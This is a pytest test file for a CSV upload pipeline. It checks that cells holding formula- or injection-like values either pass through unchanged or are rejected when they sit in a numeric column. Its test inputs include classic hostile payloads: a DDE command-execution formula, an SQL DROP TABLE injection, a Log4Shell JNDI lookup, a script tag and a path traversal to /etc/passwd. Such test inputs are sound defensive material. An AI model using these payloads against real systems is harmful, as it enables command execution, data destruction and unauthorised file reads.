"""Cells that are more than data to the next program pass through as they are."""

from __future__ import annotations

import pytest

from tests.support.csvs import MALL_HEADER, deliver_upload, mall_csv, quoted, read_csv
from tests.support.deployment import ROOT
from tests.support.models import mall_model

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com","click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "<script>alert(1)</script>",
    "'; DROP TABLE customers; --",
    "${jndi:ldap://example.com}",
    "../../etc/passwd",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_in_a_cell_passes_through_unchanged(cell: str) -> None:
    good, bad = (quoted([cell, "Male", age, "15", "39", cell]) for age in ("19", "x"))

    delivered = deliver_upload(mall_model(), mall_csv(good, bad, header=f"{MALL_HEADER},note"))

    (row,) = delivered.table.to_pylist()
    assert (row["customer_id"], row["note"]) == (cell, cell)
    _, rejected = read_csv(delivered.rejects)
    assert rejected[3:] == [cell, "Male", "x", "15", "39", cell]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_in_a_features_place_is_rejected_and_kept(cell: str) -> None:
    row = quoted(["1", "Male", cell, "15", "39"])

    delivered = deliver_upload(mall_model(), mall_csv(row))

    _, rejected = read_csv(delivered.rejects)
    assert rejected[1] == "not_a_number"
    assert rejected[5] == cell


def test_the_readme_says_so() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")

    assert "=cmd|" in readme
